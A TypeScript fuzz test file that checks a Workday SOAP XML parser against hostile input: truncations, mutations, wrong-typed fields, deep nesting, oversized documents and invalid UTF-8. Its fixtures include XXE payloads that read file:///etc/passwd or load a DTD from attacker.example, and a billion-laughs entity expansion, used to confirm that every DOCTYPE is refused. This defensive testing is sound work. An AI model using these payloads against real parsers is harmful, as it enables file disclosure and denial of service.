import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ValidationError, WorkdayError } from '../../lambdas/shared/errors';
import { DEFAULT_MAX_XML_LENGTH, parseXml, XmlError } from '../../lambdas/shared/xml';
import {
  type ParsedPage,
  parseInvoiceAdjustmentsPage,
  parsePurchaseOrdersPage,
  parseSoapFault,
  parseSupplierInvoicesPage,
  parseSuppliersPage,
} from '../../lambdas/workday/parse';
import { readFixture } from '../unit/workday/workday-xml';
import { expectTypedOrNothing, fuzz, fuzzTimeout, hostileString, readCorpus, thrownBy, xmlText } from './fuzz';

interface Page {
  operation: string;
  xml: string;
  parse: (xml: string) => ParsedPage<unknown>;
}

// Real response pages, as the simulator renders them (test/fixtures/workday).
const PAGES: Page[] = [
  { operation: 'Get_Suppliers', xml: readFixture('get-suppliers-page1.xml'), parse: parseSuppliersPage },
  {
    operation: 'Get_Purchase_Orders',
    xml: readFixture('get-purchase-orders-page2.xml'),
    parse: parsePurchaseOrdersPage,
  },
  {
    operation: 'Get_Supplier_Invoices',
    xml: readFixture('get-supplier-invoices.xml'),
    parse: parseSupplierInvoicesPage,
  },
  {
    operation: 'Get_Supplier_Invoice_Adjustments',
    xml: readFixture('get-supplier-invoice-adjustments.xml'),
    parse: parseInvoiceAdjustmentsPage,
  },
];
const page = fc.constantFrom(...PAGES);
const BASELINE = new Map(PAGES.map((p) => [p.operation, p.parse(p.xml)]));

/** Bound on any message the parser makes: it ends up in logs, audit rows and exit messages. */
const MAX_MESSAGE = 4_000;

/**
 * The parser's contract on any input: a page (every record valid or rejected with a ValidationError whose
 * issues each name an element path), or a WorkdayError naming the operation. Returns what happened.
 */
function parseChecked(target: Page, xml: string): { page?: ParsedPage<unknown>; error?: WorkdayError } {
  let parsed: ParsedPage<unknown> | undefined;
  const error = thrownBy(() => {
    parsed = target.parse(xml);
  });
  expectTypedOrNothing(error, WorkdayError);
  if (error instanceof WorkdayError) {
    expect(error.message.length).toBeLessThan(MAX_MESSAGE);
    if (error.kind === 'malformed') expect(error.message).toContain(`Workday ${target.operation} response`);
    return { error };
  }
  if (parsed === undefined) throw new Error('neither a page nor an error');
  // Nothing lost: Page_Results records, each either valid or rejected.
  expect(parsed.records.length + parsed.rejected.length).toBe(parsed.results.pageResults);
  for (const rejected of parsed.rejected) {
    expect(rejected.error).toBeInstanceOf(ValidationError);
    expect(rejected.error.issues.length).toBeGreaterThan(0);
    expect(rejected.error.message.length).toBeLessThan(MAX_MESSAGE);
    for (const issue of rejected.error.issues) {
      expect(issue.path).not.toBe('');
      expect(issue.message).not.toBe('');
    }
  }
  return { page: parsed };
}

/** Every issue path and the message of what a parse ended in: where a person reads what was wrong. */
function wordsOf(result: { page?: ParsedPage<unknown>; error?: WorkdayError }): string {
  if (result.error) return result.error.message;
  return (result.page?.rejected ?? []).flatMap((r) => r.error.issues.map((i) => `${i.path}: ${i.message}`)).join('\n');
}

// Elements read under another name: an adjustment's total may come as the invoice's Control_Amount_Total.
const ALIASES: Record<string, string[]> = { Control_Amount_Total: ['Control_Total_Amount'] };

/** Leaf elements without attributes (`<wd:Name>text</wd:Name>`): where wrong types go. */
function leaves(xml: string): { name: string; start: number; end: number }[] {
  return [...xml.matchAll(/<wd:([A-Za-z_]+)>([^<]*)<\/wd:\1>/g)].map((m) => {
    const open = `<wd:${m[1]}>`.length;
    return { name: m[1] ?? '', start: m.index + open, end: m.index + open + (m[2] ?? '').length };
  });
}

const HOSTILE_SNIPPETS = [
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '<!doctype x>',
  '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">',
  '&a;',
  '&lol9;',
  '&#0;',
  '&#xD800;',
  '&#x110000;',
  '<![CDATA[',
  ']]>',
  '<!--',
  '<?xml version="1.0"?>',
  '<__proto__/>',
  '<wd:constructor>1</wd:constructor>',
  '<wd:toString>1</wd:toString>',
  '<wd:ID wd:type="WID">not-a-wid</wd:ID>',
  '<wd:Fault><faultcode>x</faultcode></wd:Fault>',
  '\uFFFD',
  '\uD800',
  '\u0000',
  '<',
  '>',
  '&',
  '"',
  `${'<wd:a>'.repeat(250)}${'</wd:a>'.repeat(250)}`,
];

const mutation = (xml: string) => {
  const at = fc.nat({ max: xml.length });
  return fc.oneof(
    fc.tuple(at, at).map(([a, b]) => xml.slice(0, Math.min(a, b)) + xml.slice(Math.max(a, b))),
    fc.tuple(at, at, at).map(([a, b, c]) => {
      const [from, to] = [Math.min(a, b), Math.max(a, b)];
      return xml.slice(0, c) + xml.slice(from, Math.min(to, from + 4_000)) + xml.slice(c);
    }),
    fc.tuple(at, fc.constantFrom(...HOSTILE_SNIPPETS)).map(([i, s]) => xml.slice(0, i) + s + xml.slice(i)),
    fc.tuple(at, hostileString()).map(([i, s]) => xml.slice(0, i) + s + xml.slice(i)),
    fc.tuple(at, fc.nat({ max: 64 }), hostileString(8)).map(([i, n, s]) => xml.slice(0, i) + s + xml.slice(i + n)),
  );
};

describe('Workday SOAP parsing of hostile input', () => {
  it(
    'meets a randomly truncated real page with a malformed WorkdayError naming the operation',
    () => {
      fc.assert(
        fc.property(
          page.chain((p) => fc.tuple(fc.constant(p), fc.nat({ max: p.xml.trimEnd().length - 1 }))),
          ([p, cut]) => {
            const result = parseChecked(p, p.xml.slice(0, cut));
            expect(result.error?.kind).toBe('malformed');
          },
        ),
        fuzz(120),
      );
    },
    fuzzTimeout(120),
  );

  it(
    'meets random mutations (cuts, copies, entity and DOCTYPE tricks, odd characters) with a page or a WorkdayError',
    () => {
      fc.assert(
        fc.property(
          page.chain((p) => fc.tuple(fc.constant(p), mutation(p.xml))),
          ([p, xml]) => {
            parseChecked(p, xml);
          },
        ),
        fuzz(150),
      );
    },
    fuzzTimeout(150),
  );

  it(
    'names the element when a field holds a wrong type: other text, child elements, or a repeat',
    () => {
      const wrongValue = fc.oneof(
        hostileString(40).map(xmlText),
        fc.constantFrom('<wd:Oops>1</wd:Oops>', '', '   ', '1e400', '-0', '12,50', 'NaN', '2026-02-30', '0x10'),
      );
      fc.assert(
        fc.property(
          page.chain((p) => fc.tuple(fc.constant(p), fc.constantFrom(...leaves(p.xml)), wrongValue, fc.boolean())),
          ([p, leaf, value, repeat]) => {
            const original = p.xml.slice(leaf.start, leaf.end);
            const replaced = repeat ? `${value}</wd:${leaf.name}><wd:${leaf.name}>${value}` : value;
            const result = parseChecked(p, p.xml.slice(0, leaf.start) + replaced + p.xml.slice(leaf.end));
            const baseline = BASELINE.get(p.operation) ?? p.parse(p.xml);
            const changed =
              result.error !== undefined || (result.page?.rejected.length ?? 0) > baseline.rejected.length;
            // A field we read and could not accept is named; one we do not read (bank data, descriptors) changes nothing.
            if (changed && !repeat && value !== original) {
              const names = [leaf.name, ...(ALIASES[leaf.name] ?? [])];
              expect(names.some((name) => wordsOf(result).includes(name))).toBe(true);
            }
          },
        ),
        fuzz(150),
      );
    },
    fuzzTimeout(150),
  );

  it('rejects a non-decimal amount on the record that holds it, naming Extended_Amount', () => {
    const notDecimal = fc
      .string({ minLength: 1, maxLength: 20 })
      .filter((s) => s.trim() !== '' && !/^\s*[+-]?(\d+(\.\d*)?|\.\d+)\s*$/.test(s));
    fc.assert(
      fc.property(page, notDecimal, fc.nat(), (p, text, pick) => {
        const amounts = leaves(p.xml).filter((l) => l.name === 'Extended_Amount');
        fc.pre(amounts.length > 0);
        const leaf = amounts[pick % amounts.length];
        if (leaf === undefined) return;
        const result = parseChecked(p, p.xml.slice(0, leaf.start) + xmlText(text) + p.xml.slice(leaf.end));
        expect(result.page?.rejected.length).toBeGreaterThan(0);
        expect(wordsOf(result)).toMatch(/Extended_Amount: not a decimal amount/);
      }),
      fuzz(60),
    );
  });

  it('refuses any DOCTYPE, whatever its case, place or entities, without expanding anything', () => {
    const doctype = fc.oneof(
      fc.constantFrom(
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://attacker.example/evil.dtd"> %xxe;]>',
        '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">',
        '<!doctype html>',
      ),
      fc.string({ maxLength: 30 }).map((s) => `<!DoCtYpE ${s.replace(/[<>]/g, '')}>`),
    );
    fc.assert(
      fc.property(page, doctype, fc.nat(), (p, dt, at) => {
        const cut = p.xml.indexOf('<env:Envelope') >= 0 ? p.xml.indexOf('<env:Envelope') : at % p.xml.length;
        const xml = `${p.xml.slice(0, cut)}${dt}${p.xml.slice(cut).replace(/<wd:Total_Results>[^<]*</, '<wd:Total_Results>&lol2;<')}`;
        const result = parseChecked(p, xml);
        expect(result.error?.kind).toBe('malformed');
        expect(result.error?.message).toMatch(/DOCTYPE is not allowed/);
      }),
      fuzz(60),
    );
  });

  it('refuses nesting deeper than the parser allows, saying so, in bounded time', () => {
    fc.assert(
      fc.property(page, fc.integer({ min: 201, max: 5_000 }), (p, depth) => {
        const deep = `${'<wd:Memo>'.repeat(depth)}x${'</wd:Memo>'.repeat(depth)}`;
        const xml = p.xml.replace('<wd:Response_Data>', `<wd:Response_Data>${deep}`);
        const started = performance.now();
        const result = parseChecked(p, xml);
        expect(performance.now() - started).toBeLessThan(5_000);
        expect(result.error?.kind).toBe('malformed');
        expect(result.error?.message).toMatch(/nested tags/i);
      }),
      fuzz(20),
    );
  });

  it('keeps huge field values whole within the size limit, and refuses documents over it', () => {
    fc.assert(
      fc.property(page, fc.integer({ min: 10_000, max: 500_000 }), fc.constantFrom('x', 'é', '€', '𝄞'), (p, n, ch) => {
        const memo = leaves(p.xml).find((l) => l.name === 'Supplier_Name' || l.name === 'Memo');
        fc.pre(memo !== undefined);
        if (memo === undefined) return;
        const huge = ch.repeat(Math.ceil(n / ch.length));
        const result = parseChecked(p, p.xml.slice(0, memo.start) + huge + p.xml.slice(memo.end));
        expect(result.error).toBeUndefined();
        const tooLong = thrownBy(() => parseXml(p.xml, { arrays: new Set(), maxLength: p.xml.length - 1 }));
        expect(tooLong).toBeInstanceOf(XmlError);
        expect((tooLong as Error).message).toMatch(/over the \d+ limit/);
      }),
      // Each run parses up to a megabyte: capped, whatever FUZZ_RUNS says.
      { ...fuzz(4), numRuns: Math.min(fuzz(4).numRuns ?? 4, 40) },
    );
  });

  it('refuses a document over the default size limit before reading it', () => {
    const huge = `<a>${'x'.repeat(DEFAULT_MAX_XML_LENGTH)}</a>`;
    const result = parseChecked(PAGES[0] as Page, huge);
    expect(result.error?.message).toMatch(/over the \d+ limit/);
  });

  it(
    'decodes invalid UTF-8 (as the HTTP client does, with replacement characters) into a page or a WorkdayError',
    () => {
      fc.assert(
        fc.property(
          page.chain((p) => fc.tuple(fc.constant(p), fc.nat({ max: p.xml.length }), fc.uint8Array({ maxLength: 16 }))),
          ([p, at, bytes]) => {
            const raw = Buffer.from(p.xml, 'utf8');
            const body = Buffer.concat([raw.subarray(0, at), Buffer.from(bytes), raw.subarray(at)]);
            parseChecked(p, new TextDecoder().decode(body));
          },
        ),
        fuzz(100),
      );
    },
    fuzzTimeout(100),
  );

  it('turns any string into a parsed tree or an XmlError, and any body into a fault, undefined, or a page error', () => {
    const xmlish = fc.string({
      unit: fc.constantFrom(
        '<',
        '>',
        '/',
        '=',
        '"',
        '&',
        ';',
        '!',
        '?',
        '[',
        ']',
        ' ',
        'a',
        'wd:',
        'Envelope',
        'Body',
        'Fault',
        'faultcode',
        'Response_Data',
        'ID',
        '#',
        'x',
      ),
      maxLength: 200,
    });
    fc.assert(
      fc.property(fc.oneof(hostileString(200), xmlish), (text) => {
        expectTypedOrNothing(
          thrownBy(() => parseXml(text, { arrays: new Set(['ID']) })),
          XmlError,
        );
        let fault: WorkdayError | undefined;
        expectTypedOrNothing(
          thrownBy(() => {
            fault = parseSoapFault(text);
          }),
        );
        if (fault !== undefined) expect(fault).toBeInstanceOf(WorkdayError);
        parseChecked(PAGES[0] as Page, text);
      }),
      fuzz(300),
    );
  });

  it('reads any fault text into a bounded, typed WorkdayError', () => {
    fc.assert(
      fc.property(hostileString(2_000), hostileString(20_000), (code, reason) => {
        const xml =
          '<env:Envelope xmlns:env="http://schemas.xmlsoap.org/soap/envelope/"><env:Body><env:Fault>' +
          `<faultcode>${xmlText(code)}</faultcode><faultstring>${xmlText(reason)}</faultstring>` +
          '</env:Fault></env:Body></env:Envelope>';
        const fault = parseSoapFault(xml);
        if (fault === undefined) return; // text the XML parser refuses (e.g. a lone control character) is no fault
        expect(fault).toBeInstanceOf(WorkdayError);
        expect(fault.message.length).toBeLessThan(MAX_MESSAGE);
        const error = thrownBy(() => parseSuppliersPage(xml));
        expect(error).toBeInstanceOf(WorkdayError);
      }),
      fuzz(100),
    );
  });
});

describe('the Workday corpus (test/fuzz/corpus/workday)', () => {
  const byOperation = new Map(PAGES.map((p) => [p.operation, p]));
  it.each(readCorpus('workday').map((c) => [c.file, c] as const))('%s', (_file, corpusCase) => {
    const operation = String(corpusCase.expect.operation ?? 'Get_Suppliers');
    const target = byOperation.get(operation);
    if (!target) throw new Error(`unknown operation ${operation}`);
    const started = performance.now();
    const result = parseChecked(target, corpusCase.text);
    expect(performance.now() - started).toBeLessThan(5_000);
    const outcome = result.error ? result.error.kind : (result.page?.rejected.length ?? 0) > 0 ? 'rejected' : 'parsed';
    expect(outcome).toBe(corpusCase.expect.outcome);
    if (typeof corpusCase.expect.mentions === 'string') expect(wordsOf(result)).toContain(corpusCase.expect.mentions);
  });
});

describe('regressions', () => {
  it('keeps the message short when a hostile tag name is megabytes long', () => {
    const result = parseChecked(PAGES[0] as Page, `<a${'b'.repeat(300_000)}>`);
    expect(result.error?.message.length).toBeLessThan(600);
  });

  it('lists a few of thousands of unexpected elements, not all of them', () => {
    const body = Array.from({ length: 5_000 }, (_, i) => `<x${i}/>`).join('');
    const result = parseChecked(PAGES[0] as Page, `<Envelope><Body>${body}</Body></Envelope>`);
    expect(result.error?.message).toMatch(/found x0, x1, .* and 4990 more/);
  });

  it('shows at most twenty of a record’s problems in its message, keeping every issue', () => {
    const p = PAGES[1] as Page;
    const xml = p.xml.replace(/<wd:Extended_Amount>[^<]*</g, '<wd:Extended_Amount>bad<');
    const result = parseChecked(p, xml);
    const rejected = result.page?.rejected[0];
    expect(rejected).toBeDefined();
    const issues = rejected?.error.issues.length ?? 0;
    if (issues > 20) expect(rejected?.error.message).toContain(`and ${issues - 20} more`);
  });
});
